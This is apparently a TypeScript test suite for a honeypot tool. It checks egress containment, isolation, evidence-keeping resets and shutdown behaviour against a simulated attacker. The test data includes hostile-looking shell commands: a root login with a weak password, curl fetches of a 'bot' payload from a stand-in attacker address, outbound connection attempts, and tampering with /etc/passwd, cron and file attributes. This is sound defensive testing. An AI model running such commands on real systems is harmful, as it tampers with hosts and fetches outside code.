/**
 * The victim's commands on a whole honeypot: a permitted download, the kill switch, a reset whose difference is evidence,
 * and containment when everything of ours is killed -9.
 */
import assert from 'node:assert/strict';
import { type ChildProcess, spawn } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { availableParallelism, loadavg } from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { gunzipSync } from 'node:zlib';
import { waitFor } from '@waspglass/kit';
import { Attacker } from '../attacker/attacker.ts';
import { cannotRun, Instance, leftovers } from './instance.ts';

const reason = cannotRun();
const [FIRST, SECOND] = ['203.0.113.9', '203.0.113.10'];

describe('the victim from outside', { skip: reason ?? false }, () => {
  const honeypot = new Instance({
    name: 'wgvictc',
    network: '10.66.97.0/30',
    config: (directory) => ({
      evidence: { directory: path.join(directory, 'evidence') },
      victim: { egress: ['http store', 'tcp record'], disk_mib: 512 },
    }),
  });
  const object = randomBytes(50_000);
  const hash = createHash('sha256').update(object).digest('hex');
  let attacker: Attacker;
  let server: ChildProcess | undefined;

  const login = (command: string, from = FIRST) =>
    attacker.ssh({ from, user: 'root', password: 'passw0rd', port: honeypot.sshPort, command });
  const victim = (...args: string[]) => honeypot.waspglass('victim', ...args, '--config', honeypot.configFile);
  const evidence = () => path.join(honeypot.directory, 'evidence/srv-web-02');

  before(async () => {
    mkdirSync(path.join(honeypot.directory, 'evidence'));
    chmodSync(path.join(honeypot.directory, 'evidence'), 0o777);
    await honeypot.start();
    attacker = await Attacker.create({ name: 'wgvicta', hostAddress: '203.0.113.1/24', addresses: [FIRST, SECOND] });
    writeFileSync(path.join(honeypot.directory, 'bot'), object);
    const serve = `require('http').createServer((_, answer) => answer.end(require('fs').readFileSync(process.env.BOT))).listen(80)`;
    const args = ['netns', 'exec', attacker.namespace, process.execPath, '-e', serve];
    const env = { ...process.env, BOT: path.join(honeypot.directory, 'bot') };
    server = spawn('ip', args, { stdio: 'inherit', env });
    const probe = () => attacker.run('bash', ['-c', `exec 3<>/dev/tcp/${SECOND}/80`]);
    await waitFor(async () => (await probe()).status === 0, { limit: 10_000, what: 'the web server' });
  });

  after(async () => {
    server?.kill('SIGKILL');
    await attacker?.close();
    await honeypot.remove();
  });

  test('a permitted download is stored by its hash, and nothing else gets out', async () => {
    const { stdout } = await login(
      `curl -s http://${SECOND}/bot | sha256sum; curl -sm 2 http://${SECOND}:25/ && echo OUT`,
    );
    assert.equal(stdout, `${hash}  -\n`);
    assert.deepEqual(readFileSync(path.join(honeypot.state, 'egress/objects', hash)), object);
    const status = JSON.parse(victim('status', '--json').stdout);
    assert.ok(status.egressDropped.packets > 0);
    await waitFor(() => JSON.parse(victim('status', '--json').stdout).egress.counts['http stored'] === 1, {
      limit: 5000,
      what: 'the status to tell of it',
    });
  });

  test('audit says what gives the victim away', async () => {
    const { code, stdout } = victim('audit', '--json');
    assert.equal(code, 1);
    const findings = JSON.parse(stdout) as { check: string; shows?: string }[];
    const shows = (check: string) => findings.find((finding) => finding.check.startsWith(check))?.shows;
    assert.ok(findings.length >= 15);
    assert.equal(shows('names of the honeypot'), undefined);
    assert.equal(shows('files of container engines'), undefined);
    assert.match(shows('host name') ?? '', /default/);
    assert.match(shows('accounts') ?? '', /default/);
    await login('touch /.dockerenv');
    assert.match(victim('audit').stdout, /SHOWS files of container engines: \.dockerenv/);
  });

  test('isolate cuts attackers off, release lets them in again', async () => {
    assert.equal(victim('isolate').code, 0);
    assert.match(victim('status').stdout, /isolated +YES/);
    assert.equal((await login('echo in')).status, 255);
    assert.equal(victim('release').code, 0);
    assert.equal((await login('echo in')).stdout, 'in\n');
  });

  test('a reset keeps what became of the files and nothing else', async () => {
    await login('echo evil >/root/bot.sh; rm /etc/cron.d/backup; echo x >>/etc/passwd; chattr +i /root/bot.sh');
    const { code, stdout } = victim('reset');
    assert.equal(code, 0, stdout);
    assert.equal((await login('ls /root; ls /etc/cron.d/backup')).stdout, '/etc/cron.d/backup\n');
    const name = await waitFor(() => readdirSync(evidence()).find((file) => /^difference\..*\.jsonl\.gz$/.test(file)), {
      limit: 20_000,
      what: 'the difference on the share',
    });
    const lines = gunzipSync(readFileSync(path.join(evidence(), name)))
      .toString()
      .trim()
      .split('\n');
    const [head, ...rows] = lines.map((line) => JSON.parse(line));
    assert.equal(head.leftOut, 0);
    const of = (file: string) => rows.find((row) => row.path === file);
    const sha = createHash('sha256').update('evil\n').digest('hex');
    assert.deepEqual([of('/root/bot.sh').change, of('/root/bot.sh').sha256], ['added', sha]);
    assert.equal(of('/etc/cron.d/backup').change, 'deleted');
    assert.equal(of('/etc/passwd').change, 'changed');
    assert.equal(of('/etc/hostname'), undefined);
  });

  test('a reset takes at most three seconds', async (t) => {
    const times = () => [...honeypot.errors.matchAll(/a fresh victim after (\d+) ms.*/g)];
    for (let i = 0; i < 2; i++) assert.equal(victim('reset').code, 0);
    await waitFor(() => times().length === 3, { limit: 5000, what: 'the log' });
    for (const [line] of times()) t.diagnostic(line);
    const [load = 0] = loadavg();
    if (load > 2 * availableParallelism()) {
      t.diagnostic(`not judged: the processors have a load of ${load.toFixed(1)}`);
      return;
    }
    assert.ok(Math.min(...times().map(([, time]) => Number(time))) <= 3000);
  });

  test('with everything of ours killed -9, nothing gets out', async () => {
    // The supervisor first: it would start the others again.
    for (const name of ['up', 'sensor', 'collect', 'ship', 'egress']) process.kill(honeypot.pidOf(name), 'SIGKILL');
    const before = JSON.parse(victim('status', '--json').stdout).egressDropped.packets;
    const tries = [80, 443, 25, 6667].map((port) => `curl -sm 1 http://${SECOND}:${port}/bot && echo OUT`);
    const { stdout } = await login(
      [...tries, 'ping -c1 -W1 203.0.113.1 >/dev/null && echo OUT', 'echo end'].join('; '),
    );
    assert.equal(stdout, 'end\n');
    assert.ok(JSON.parse(victim('status', '--json').stdout).egressDropped.packets > before);
    assert.equal(honeypot.waspglass('down', '--config', honeypot.configFile).code, 0);
    await waitFor(() => leftovers(honeypot.name, honeypot.directory).length === 0, { limit: 10_000, what: 'the end' });
    assert.ok(!existsSync(path.join(honeypot.run, 'reset.request')));
  });
});
